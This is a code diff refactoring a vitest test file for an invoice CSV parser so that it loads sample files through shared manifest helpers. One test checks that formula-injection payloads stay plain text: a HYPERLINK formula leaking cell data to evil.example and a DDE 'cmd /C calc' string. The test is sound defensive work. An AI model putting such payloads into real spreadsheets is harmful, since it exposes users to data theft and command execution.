@@ -1,12 +1,9 @@
-import { existsSync, readFileSync } from "node:fs";
-import { join } from "node:path";
+import { readFileSync } from "node:fs";
 import { describe, expect, it } from "vitest";
 import { type Decimal, decimal, decimalText } from "../../../src/core/quantity.ts";
 import { readCsv } from "../../../src/modules/ingestion/formats/csv.ts";
 import type { ParsedDocument, ParseOutcome } from "../../../src/modules/ingestion/parsed-document.ts";
-
-const samples = join(import.meta.dirname, "../../../../shared/samples/invoices");
-const isMissing = !existsSync(join(samples, "manifest.json"));
+import { sampleItems, samplePath } from "../../support/sample-manifest.ts";
 
 interface Expected {
   readonly records: number;
@@ -25,9 +22,7 @@ interface Item {
 }
 
 function csvItems(): Item[] {
-  if (isMissing) return [];
-  const manifest: { items: Item[] } = JSON.parse(readFileSync(join(samples, "manifest.json"), "utf8"));
-  return manifest.items.filter(({ file }) => file.endsWith(".csv"));
+  return sampleItems<Item>().filter(({ file }) => file.endsWith(".csv"));
 }
 
 function documentOf(outcome: ParseOutcome): ParsedDocument {
@@ -44,9 +39,9 @@ function encodingName(label: string): string {
   return label === "iso-8859-1" ? "windows-1252" : label;
 }
 
-describe.skipIf(isMissing)(`sample CSV files (needs ${samples}/manifest.json)`, () => {
+describe("sample CSV files", () => {
   it.each(csvItems())("$file gives exactly the records and sums of the manifest", ({ file, format, expected }) => {
-    const document = documentOf(readCsv(readFileSync(join(samples, file))));
+    const document = documentOf(readCsv(readFileSync(samplePath(file))));
     const amounts = document.lines.map((line) => decimal(line.amount ?? "0"));
     expect(document.row_errors).toEqual([]);
     expect(document.lines).toHaveLength(expected.records);
@@ -64,7 +59,7 @@ describe.skipIf(isMissing)(`sample CSV files (needs ${samples}/manifest.json)`, 
   });
 
   it("formulas in text cells stay the text that was written", () => {
-    const { lines } = documentOf(readCsv(readFileSync(join(samples, "bad-formula-injection.csv"))));
+    const { lines } = documentOf(readCsv(readFileSync(samplePath("bad-formula-injection.csv"))));
     expect(lines.map((line) => line.supplier?.name)).toEqual([
       '=HYPERLINK("http://evil.example/?"&A1;"klik")',
       "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -74,7 +69,7 @@ describe.skipIf(isMissing)(`sample CSV files (needs ${samples}/manifest.json)`, 
   });
 
   it("Xero's day-first dates and its quantity times unit amount are read", () => {
-    const { lines } = documentOf(readCsv(readFileSync(join(samples, "xero-bills-export.csv"))));
+    const { lines } = documentOf(readCsv(readFileSync(samplePath("xero-bills-export.csv"))));
     expect(lines[1]).toMatchObject({
       kind: "bill_row",
       description: "Copy paper A4, 5 reams",
